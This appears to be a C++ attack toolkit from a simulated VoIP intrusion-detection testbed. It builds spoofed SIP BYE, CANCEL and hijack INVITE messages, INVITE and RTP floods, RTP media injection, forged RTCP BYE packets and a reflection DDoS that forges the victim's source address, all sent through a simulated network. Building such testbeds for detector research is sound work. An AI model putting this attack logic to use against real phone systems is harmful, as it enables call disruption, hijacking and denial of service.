#include "attacks/toolkit.h"

#include "rtp/packet.h"
#include "rtp/rtcp.h"
#include "sdp/sdp.h"

namespace vids::attacks {

using sip::Message;
using sip::Method;
using sip::NameAddr;
using sip::Via;

std::string AttackToolkit::NextBranch() {
  return "z9hG4bKatk" + std::to_string(serial_++);
}

std::string AttackToolkit::NextCallId() {
  return "atk-" + std::to_string(serial_++) + "@" + host_.ip().ToString();
}

void AttackToolkit::SendSip(const Message& message, net::Endpoint dst,
                            std::optional<net::Endpoint> spoofed_src) {
  net::Datagram dgram;
  dgram.src = spoofed_src.value_or(attacker_endpoint());
  dgram.dst = dst;
  dgram.payload = message.Serialize();
  if (dgram.payload.size() < 500) {
    dgram.padding_bytes = 500 - static_cast<uint32_t>(dgram.payload.size());
  }
  ++packets_sent_;
  host_.SendRaw(std::move(dgram));
}

void AttackToolkit::SendSpoofedBye(const CallSnapshot& call, bool spoof_ip) {
  // The receiving UA matches the BYE on the dialog identifiers alone (no
  // authentication), so copying Call-ID + tags from the wire suffices.
  Message bye = Message::MakeRequest(Method::kBye, call.callee_aor);
  Via via;
  via.sent_by = spoof_ip && call.caller_contact ? *call.caller_contact
                                                : attacker_endpoint();
  via.branch = NextBranch();
  bye.PushVia(via);
  NameAddr from;
  from.uri = call.caller_aor;
  if (!call.caller_tag.empty()) from.SetTag(call.caller_tag);
  bye.SetFrom(from);
  NameAddr to;
  to.uri = call.callee_aor;
  if (!call.callee_tag.empty()) to.SetTag(call.callee_tag);
  bye.SetTo(to);
  bye.SetCallId(call.call_id);
  bye.SetCseq(sip::CSeq{call.invite_cseq + 1, Method::kBye});
  std::optional<net::Endpoint> spoofed_src;
  if (spoof_ip && call.caller_contact) spoofed_src = *call.caller_contact;
  SendSip(bye, call.callee_contact, spoofed_src);
}

void AttackToolkit::SendSpoofedCancel(const CallSnapshot& call,
                                      net::Endpoint proxy) {
  // §9.1: a CANCEL matches its INVITE through the top Via branch — which
  // the attacker read off the wire.
  Message cancel = Message::MakeRequest(Method::kCancel, call.callee_aor);
  Via via;
  via.sent_by = call.invite_via_sentby;  // forged: pretend to be the proxy
  via.branch = call.invite_branch;
  cancel.PushVia(via);
  NameAddr from;
  from.uri = call.caller_aor;
  if (!call.caller_tag.empty()) from.SetTag(call.caller_tag);
  cancel.SetFrom(from);
  NameAddr to;
  to.uri = call.callee_aor;
  cancel.SetTo(to);
  cancel.SetCallId(call.call_id);
  cancel.SetCseq(sip::CSeq{call.invite_cseq, Method::kCancel});
  SendSip(cancel, proxy);
}

void AttackToolkit::LaunchInviteFlood(const sip::SipUri& target,
                                      net::Endpoint proxy, int count,
                                      sim::Duration interval) {
  for (int i = 0; i < count; ++i) {
    scheduler_.ScheduleAfter(interval * i, [this, target, proxy] {
      Message invite = Message::MakeRequest(Method::kInvite, target);
      Via via;
      via.sent_by = attacker_endpoint();
      via.branch = NextBranch();
      invite.PushVia(via);
      NameAddr from;
      from.uri.user = "flooder";
      from.uri.host = host_.ip().ToString();
      from.SetTag("atk" + std::to_string(serial_++));
      invite.SetFrom(from);
      NameAddr to;
      to.uri = target;
      invite.SetTo(to);
      invite.SetCallId(NextCallId());
      invite.SetCseq(sip::CSeq{1, Method::kInvite});
      NameAddr contact;
      contact.uri.user = "flooder";
      contact.uri.host = host_.ip().ToString();
      contact.uri.port = 5060;
      invite.SetContact(contact);
      const auto offer =
          sdp::MakeAudioOffer(net::Endpoint{host_.ip(), 40000});
      invite.SetBody(offer.Serialize(), "application/sdp");
      SendSip(invite, proxy);
    });
  }
}

void AttackToolkit::LaunchMediaSpam(const CallSnapshot& call, int count,
                                    sim::Duration interval, uint16_t seq_jump,
                                    uint32_t ts_jump) {
  if (!call.callee_media) return;
  const net::Endpoint target = *call.callee_media;
  for (int i = 0; i < count; ++i) {
    scheduler_.ScheduleAfter(
        interval * i, [this, call, target, seq_jump, ts_jump, i] {
          rtp::RtpHeader header;
          header.payload_type = static_cast<uint8_t>(call.payload_type);
          // Same SSRC, sequence/timestamp ahead of the genuine stream —
          // the receiver plays the attacker's media (Fig. 6's threat).
          header.ssrc = call.ssrc_toward_callee;
          header.sequence_number = static_cast<uint16_t>(
              call.last_seq_toward_callee + seq_jump + i);
          header.timestamp =
              call.last_ts_toward_callee + ts_jump +
              static_cast<uint32_t>(i) * 80;
          net::Datagram dgram;
          dgram.src = call.caller_media.value_or(attacker_endpoint());
          dgram.dst = target;
          dgram.payload = header.Serialize();
          dgram.padding_bytes = 10;
          ++packets_sent_;
          host_.SendRaw(std::move(dgram));
        });
  }
}

void AttackToolkit::LaunchRtpFlood(net::Endpoint target, int pps,
                                   sim::Duration duration,
                                   uint8_t payload_type) {
  const auto interval = sim::Duration::FromSeconds(1.0 / pps);
  const int count = static_cast<int>(duration.ToSeconds() * pps);
  const uint32_t ssrc = 0xBADBAD00u + static_cast<uint32_t>(serial_++);
  for (int i = 0; i < count; ++i) {
    scheduler_.ScheduleAfter(interval * i, [this, target, payload_type, ssrc,
                                            i] {
      rtp::RtpHeader header;
      header.payload_type = payload_type;
      header.ssrc = ssrc;
      header.sequence_number = static_cast<uint16_t>(i);
      header.timestamp = static_cast<uint32_t>(i) * 80;
      net::Datagram dgram;
      dgram.src = net::Endpoint{host_.ip(), 40002};
      dgram.dst = target;
      dgram.payload = header.Serialize();
      dgram.padding_bytes = 160;  // bulky G.711-sized payloads
      ++packets_sent_;
      host_.SendRaw(std::move(dgram));
    });
  }
}

void AttackToolkit::LaunchDrdosReflection(net::Endpoint victim,
                                          net::Endpoint reflector, int count,
                                          sim::Duration interval) {
  for (int i = 0; i < count; ++i) {
    scheduler_.ScheduleAfter(interval * i, [this, victim, reflector] {
      sip::SipUri target;
      target.user = "anyone";
      target.host = reflector.ip.ToString();
      Message options = Message::MakeRequest(Method::kOptions, target);
      Via via;
      via.sent_by = victim;  // responses route back to the victim
      via.branch = NextBranch();
      options.PushVia(via);
      NameAddr from;
      from.uri.user = "nobody";
      from.uri.host = victim.ip.ToString();
      from.SetTag("refl" + std::to_string(serial_++));
      options.SetFrom(from);
      NameAddr to;
      to.uri = target;
      options.SetTo(to);
      options.SetCallId(NextCallId());
      options.SetCseq(sip::CSeq{1, Method::kOptions});
      SendSip(options, reflector, victim);  // spoofed network source
    });
  }
}

void AttackToolkit::SendSpoofedRtcpBye(const CallSnapshot& call) {
  if (!call.callee_media) return;
  rtp::RtcpBye bye;
  bye.ssrcs.push_back(call.ssrc_toward_callee);
  bye.reason = "bye";
  net::Datagram dgram;
  // Claims to come from the caller's RTCP port.
  const net::Endpoint caller_rtcp =
      call.caller_media
          ? net::Endpoint{call.caller_media->ip,
                          static_cast<uint16_t>(call.caller_media->port + 1)}
          : attacker_endpoint();
  dgram.src = caller_rtcp;
  dgram.dst = net::Endpoint{call.callee_media->ip,
                            static_cast<uint16_t>(call.callee_media->port + 1)};
  dgram.payload = bye.Serialize();
  ++packets_sent_;
  host_.SendRaw(std::move(dgram));
}

void AttackToolkit::SendHijackInvite(const CallSnapshot& call) {
  Message invite = Message::MakeRequest(Method::kInvite, call.callee_aor);
  Via via;
  via.sent_by = attacker_endpoint();
  via.branch = NextBranch();
  invite.PushVia(via);
  NameAddr from;
  from.uri = call.caller_aor;  // claims to be the caller...
  from.SetTag("hijack" + std::to_string(serial_++));  // ...with a fresh tag
  invite.SetFrom(from);
  NameAddr to;
  to.uri = call.callee_aor;
  if (!call.callee_tag.empty()) to.SetTag(call.callee_tag);
  invite.SetTo(to);
  invite.SetCallId(call.call_id);  // inside the existing dialog
  invite.SetCseq(sip::CSeq{call.invite_cseq + 10, Method::kInvite});
  NameAddr contact;
  contact.uri.user = "mitm";
  contact.uri.host = host_.ip().ToString();
  contact.uri.port = 5060;
  invite.SetContact(contact);
  const auto offer = sdp::MakeAudioOffer(net::Endpoint{host_.ip(), 41000});
  invite.SetBody(offer.Serialize(), "application/sdp");
  SendSip(invite, call.callee_contact);
}

}  // namespace vids::attacks
